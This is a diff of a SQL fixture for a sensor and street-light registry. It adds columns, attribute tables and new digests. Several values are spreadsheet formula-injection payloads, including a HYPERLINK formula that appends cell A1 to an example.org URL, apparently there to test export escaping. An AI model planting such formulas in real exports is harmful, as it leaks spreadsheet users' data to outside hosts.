@@ -166,6 +166,7 @@ CREATE TABLE "equipment" (
   "support_id" TEXT,
   "network" TEXT,
   "installed_on" TEXT,
+  "installed_before" TEXT,
   "placed_on" TEXT,
   "decommissioned_on" TEXT,
   "removed_on" TEXT,
@@ -213,8 +214,16 @@ CREATE TABLE "equipment" (
   FOREIGN KEY ("convention_id") REFERENCES "conventions" ("id"),
   FOREIGN KEY ("replaces") REFERENCES "equipment" ("id")
 );
-INSERT INTO "equipment" VALUES('istres-noise-0','sensor','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','removed',NULL,NULL,'2023-12-11',NULL,'2024-03-09','2024-03-10',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,'istres',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,-4.5,43.51345);
-INSERT INTO "equipment" VALUES('istres-noise-1','sensor','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','active','istres-ep-1','lorawan','2024-03-11','2024-05-01',NULL,NULL,NULL,'association','a",=1+1,"b;c','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','Sondes Réunies',' =1+1','0012345678901234','70B3D57ED0061234','70B3D57ED0000001','A',NULL,NULL,NULL,NULL,3.5,'battery',0.1,0.01,'istres','istres-noise-0','2024-03-01',24,NULL,1747.3,NULL,NULL,NULL,NULL,'street_light','Istres','13047','Istres',4.98747123456,43.5);
+INSERT INTO "equipment" VALUES('istres-noise-0','sensor','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','removed',NULL,NULL,'2023-12-11',NULL,NULL,'2024-03-09','2024-03-10',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,'istres',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,-4.5,43.51345);
+INSERT INTO "equipment" VALUES('istres-noise-1','sensor','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','active','istres-ep-1','lorawan','2024-03-11',NULL,'2024-05-01',NULL,NULL,NULL,'association','a",=1+1,"b;c','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','Sondes Réunies',' =1+1','0012345678901234','70B3D57ED0061234','70B3D57ED0000001','A',NULL,NULL,NULL,NULL,3.5,'battery',0.1,0.01,'istres','istres-noise-0','2024-03-01',24,NULL,1747.3,NULL,NULL,NULL,NULL,'street_light','Istres','13047','Istres',4.98747123456,43.5);
+CREATE TABLE "equipment_attributes" (
+  "equipment_id" TEXT,
+  "key" TEXT,
+  "value" TEXT,
+  PRIMARY KEY ("equipment_id", "key"),
+  FOREIGN KEY ("equipment_id") REFERENCES "equipment" ("id")
+);
+INSERT INTO "equipment_attributes" VALUES('istres-noise-1','COULEUR','=RAL 7016');
 CREATE TABLE "equipment_captures" (
   "equipment_id" TEXT,
   "n" INTEGER,
@@ -449,11 +458,11 @@ INSERT INTO "parties_writers_keys" VALUES('istres',1,'SHA256:VpAew07yfl/pnwH6Qja
 CREATE TABLE "smartreg_about" (name TEXT PRIMARY KEY, value TEXT);
 INSERT INTO "smartreg_about" VALUES('version','1');
 INSERT INTO "smartreg_about" VALUES('registry','Golden registry');
-INSERT INTO "smartreg_about" VALUES('commit','bed0d9c9cb3092f1476e5c1b7710850c08a519b1');
+INSERT INTO "smartreg_about" VALUES('commit','0fbbecc8ae11ffdb78324a228648f95afdb539ea');
 INSERT INTO "smartreg_about" VALUES('reference_date','2024-06-01');
 INSERT INTO "smartreg_about" VALUES('rules','<rules>');
 INSERT INTO "smartreg_about" VALUES('audience','internal');
-INSERT INTO "smartreg_about" VALUES('digest','sha256:bc93ead185b548a4517aced32e2f6dd610666f7ad9b2079785ed57b6c0667025');
+INSERT INTO "smartreg_about" VALUES('digest','sha256:4939a5b46ed73358d69b56d20fb5b08986bdc5fef8af86607f291a4fd856a623');
 CREATE TABLE "supports" (
   "id" TEXT,
   "type" TEXT,
@@ -486,6 +495,14 @@ CREATE TABLE "supports" (
   FOREIGN KEY ("manager_id") REFERENCES "parties" ("id")
 );
 INSERT INTO "supports" VALUES('istres-ep-1','street_light','istres','Istres','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','13047','Istres','A','in_service','-12.5','a;=1+1;b',4.0e-07,'steel',NULL,123456789.125,2,'2024-01-10','permanent',60.0,'	=1+1','internal',NULL,NULL,4.98747123456,43.5);
+CREATE TABLE "supports_attributes" (
+  "support_id" TEXT,
+  "key" TEXT,
+  "value" TEXT,
+  PRIMARY KEY ("support_id", "key"),
+  FOREIGN KEY ("support_id") REFERENCES "supports" ("id")
+);
+INSERT INTO "supports_attributes" VALUES('istres-ep-1','N° LAMPE','007');
 CREATE TABLE "supports_previous_owners" (
   "support_id" TEXT,
   "n" INTEGER,
